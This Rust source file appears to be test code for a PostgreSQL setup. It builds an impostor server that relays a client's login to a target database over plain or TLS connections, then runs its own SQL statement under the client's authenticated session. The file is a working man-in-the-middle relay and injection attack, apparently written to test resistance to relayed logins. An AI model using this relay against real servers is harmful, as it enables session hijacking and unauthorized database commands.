//! Owns a server that passes a login on to another server, and goes on there in the client's place: with TLS
//! towards either side or without. Must not know a password: it lives on what the client proves.

use crate::server::process::as_servers;
use crate::tls::Certificate;
use crate::wait::until;
use std::io::{self, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::Duration;

/// What it tries.
#[derive(Clone)]
pub struct Fraud {
    pub victim: SocketAddr,
    /// It offers TLS with this certificate; none: it declines.
    pub certificate: Option<Certificate>,
    /// It uses TLS towards its victim.
    pub victim_tls: bool,
    /// What it says where it gets in.
    pub statement: &'static str,
}

pub struct Impostor {
    pub address: SocketAddr,
    answered: Arc<AtomicUsize>,
}

/// One side of the conversation, as plain text.
struct Side {
    from: Box<dyn Read + Send>,
    to: Box<dyn Write + Send>,
    _program: Option<Program>,
}

struct Program(Child);

impl Drop for Program {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Impostor {
    #[track_caller]
    pub fn start(ip: impl Into<IpAddr>, port: u16, fraud: Fraud) -> Impostor {
        let listener = TcpListener::bind((ip.into(), port)).expect("the address is free");
        let address = listener.local_addr().expect("an address");
        let answered = Arc::new(AtomicUsize::new(0));
        let count = answered.clone();
        thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let (fraud, count) = (fraud.clone(), count.clone());
                thread::spawn(move || {
                    let _ = relay(client, &fraud, &count);
                });
            }
        });
        Impostor { address, answered }
    }

    /// How often its victim has answered a login: let in or not.
    pub fn answered(&self) -> usize {
        self.answered.load(Ordering::Relaxed)
    }
}

const SSL_REQUEST: u32 = 80_877_103;
const GSS_REQUEST: u32 = 80_877_104;

fn relay(client: TcpStream, fraud: &Fraud, answered: &AtomicUsize) -> io::Result<()> {
    client.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut client = plain(client)?;
    let startup = loop {
        let packet = read_packet(&mut *client.from)?;
        let code = u32::from_be_bytes(packet[4..8].try_into().expect("four bytes"));
        match (code, &fraud.certificate) {
            (SSL_REQUEST, Some(certificate)) => {
                client.to.write_all(b"S")?;
                client = encrypted(client, certificate)?;
            }
            (SSL_REQUEST | GSS_REQUEST, _) => client.to.write_all(b"N")?,
            _ => break packet,
        }
    };
    let mut victim = match fraud.victim_tls {
        true => s_client(fraud.victim)?,
        false => plain(TcpStream::connect(fraud.victim)?)?,
    };
    victim.to.write_all(&startup)?;
    loop {
        victim.to.flush()?;
        let message = read_message(&mut *victim.from)?;
        let request = (message[0], message.get(5..9));
        match request {
            (b'R', Some([0, 0, 0, 0])) => {
                answered.fetch_add(1, Ordering::Relaxed);
                let mut query = vec![b'Q'];
                query.extend((fraud.statement.len() as u32 + 5).to_be_bytes());
                query.extend(fraud.statement.as_bytes());
                query.push(0);
                victim.to.write_all(&query)?;
                victim.to.flush()?;
                // Until it is done: the second time that the victim is ready for a query.
                for _ in 0..2 {
                    while read_message(&mut *victim.from)?[0] != b'Z' {}
                }
                return Ok(());
            }
            // The end of SCRAM wants no answer.
            (b'R', Some([0, 0, 0, 12])) => client.to.write_all(&message)?,
            (b'R', _) => {
                client.to.write_all(&message)?;
                client.to.flush()?;
                victim.to.write_all(&read_message(&mut *client.from)?)?;
            }
            _ => {
                answered.fetch_add(1, Ordering::Relaxed);
                client.to.write_all(&message)?;
                return client.to.flush();
            }
        }
    }
}

fn plain(stream: TcpStream) -> io::Result<Side> {
    Ok(Side { from: Box::new(stream.try_clone()?), to: Box::new(stream), _program: None })
}

/// The same client behind TLS: `openssl s_server` takes the connection over from here.
fn encrypted(client: Side, certificate: &Certificate) -> io::Result<Side> {
    let port = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?.local_addr()?.port();
    let (cert, key) = (certificate.certificate(), certificate.key());
    let mut openssl = as_servers("openssl");
    openssl.args(["s_server", "-quiet", "-naccept", "1", "-accept", &format!("127.0.0.1:{port}")]);
    openssl.arg("-cert").arg(cert).arg("-key").arg(key);
    let mut side = speak_through(openssl)?;
    let inner = until("s_server listens", Duration::from_secs(5), || {
        TcpStream::connect((Ipv4Addr::LOCALHOST, port)).map_err(|error| error.to_string())
    });
    let (mut inner_from, mut inner_to) = (inner.try_clone()?, inner);
    let Side { mut from, mut to, .. } = client;
    thread::spawn(move || io::copy(&mut from, &mut inner_to));
    thread::spawn(move || io::copy(&mut inner_from, &mut to));
    side.to.flush()?;
    Ok(side)
}

fn s_client(victim: SocketAddr) -> io::Result<Side> {
    let mut openssl = as_servers("openssl");
    openssl.args(["s_client", "-quiet", "-starttls", "postgres"]);
    openssl.args(["-connect", &victim.to_string()]);
    speak_through(openssl)
}

fn speak_through(mut openssl: std::process::Command) -> io::Result<Side> {
    openssl.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
    let mut child = openssl.spawn()?;
    let (from, to) = (child.stdout.take(), child.stdin.take());
    let (Some(from), Some(to)) = (from, to) else {
        return Err(io::Error::other("no pipes"));
    };
    Ok(Side { from: Box::new(from), to: Box::new(to), _program: Some(Program(child)) })
}

/// A packet of the start, which has no type.
fn read_packet(from: &mut dyn Read) -> io::Result<Vec<u8>> {
    read_counted(from, Vec::new())
}

fn read_message(from: &mut dyn Read) -> io::Result<Vec<u8>> {
    let mut kind = [0];
    from.read_exact(&mut kind)?;
    read_counted(from, kind.to_vec())
}

fn read_counted(from: &mut dyn Read, mut message: Vec<u8>) -> io::Result<Vec<u8>> {
    let mut length = [0; 4];
    from.read_exact(&mut length)?;
    message.extend(length);
    let rest = u64::from(u32::from_be_bytes(length)).saturating_sub(4).min(100_000);
    let begun = message.len();
    from.take(rest).read_to_end(&mut message)?;
    match message.len() - begun {
        got if got as u64 == rest => Ok(message),
        _ => Err(io::ErrorKind::UnexpectedEof.into()),
    }
}
